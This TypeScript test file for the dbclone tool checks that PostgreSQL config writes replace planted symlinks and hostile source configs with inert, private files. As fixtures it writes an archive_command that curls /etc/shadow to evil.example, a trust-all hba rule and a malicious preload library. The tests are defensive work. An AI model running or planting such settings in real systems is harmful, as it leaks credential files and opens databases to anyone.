// The files dbclone writes into a server's run directory and over a source's configuration, as a
// hostile data directory meets them: a link planted where a file goes is replaced, never written
// through, and every file ends up a private regular file of the server user. (Integration tier:
// the server user is looked up with `id` when running as root.)
import { lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { replaceSourceConfig, writeRunConfig, writeServerFile } from "../../../packages/core/src/engine/postgres/config.js";
import { serverUser } from "../../../packages/core/src/engine/postgres/osUser.js";

let dir: string | undefined;
afterEach(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
  dir = undefined;
});

const privateFileOfServerUser = (file: string) => {
  const st = lstatSync(file);
  expect(st.isFile()).toBe(true);
  expect(st.mode & 0o777).toBe(0o600);
  expect(st.uid).toBe(serverUser().uid);
};

describe("server files against planted links", () => {
  it("a link planted where postgresql.conf goes is replaced; its target is untouched", () => {
    dir = mkdtempSync(path.join(os.tmpdir(), "dbclone-serverfiles-"));
    const victim = path.join(dir, "victim");
    writeFileSync(victim, "precious\n");
    const run = path.join(dir, "run");
    mkdirSync(run);
    symlinkSync(victim, path.join(run, "postgresql.conf"));
    return writeRunConfig(run).then(() => {
      expect(readFileSync(victim, "utf8")).toBe("precious\n");
      expect(readFileSync(path.join(run, "postgresql.conf"), "utf8")).toBe(
        "# Written by dbclone; every setting is passed on the command line. The data directory's postgresql.conf is not read.\n",
      );
      expect(readFileSync(path.join(run, "pg_ident.conf"), "utf8")).toBe("# Written by dbclone: no ident maps.\n");
      privateFileOfServerUser(path.join(run, "postgresql.conf"));
      privateFileOfServerUser(path.join(run, "pg_ident.conf"));
    });
  });

  it("a source's archive_command, hba and ident maps are all replaced by inert files, links included", async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), "dbclone-serverfiles-"));
    const data = path.join(dir, "pgdata");
    mkdirSync(data);
    const outside = path.join(dir, "outside-hba");
    writeFileSync(outside, "host all all all trust\n");
    writeFileSync(path.join(data, "postgresql.auto.conf"), "archive_command = 'curl -d @/etc/shadow evil.example'\n");
    writeFileSync(path.join(data, "postgresql.conf"), "shared_preload_libraries = 'evil'\n");
    writeFileSync(path.join(data, "pg_ident.conf"), "map root postgres\n");
    symlinkSync(outside, path.join(data, "pg_hba.conf"));
    await replaceSourceConfig(data);
    expect(readFileSync(outside, "utf8")).toBe("host all all all trust\n");
    const read = (f: string) => readFileSync(path.join(data, f), "utf8");
    expect(read("postgresql.auto.conf")).toBe("# Replaced by dbclone at build: servers read dbclone's own settings.\n");
    for (const f of ["postgresql.conf", "pg_hba.conf", "pg_ident.conf"]) {
      expect(read(f)).toBe(`# Replaced by dbclone at build: servers read dbclone's own configuration.\n`);
      privateFileOfServerUser(path.join(data, f));
    }
    privateFileOfServerUser(path.join(data, "postgresql.auto.conf"));
  });

  it("a directory planted where the file goes fails the write and leaves it in place", async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), "dbclone-serverfiles-"));
    const target = path.join(dir, "pg_hba.conf");
    mkdirSync(target);
    await expect(writeServerFile(target, "x")).rejects.toThrow();
    expect(lstatSync(target).isDirectory()).toBe(true);
  });
});
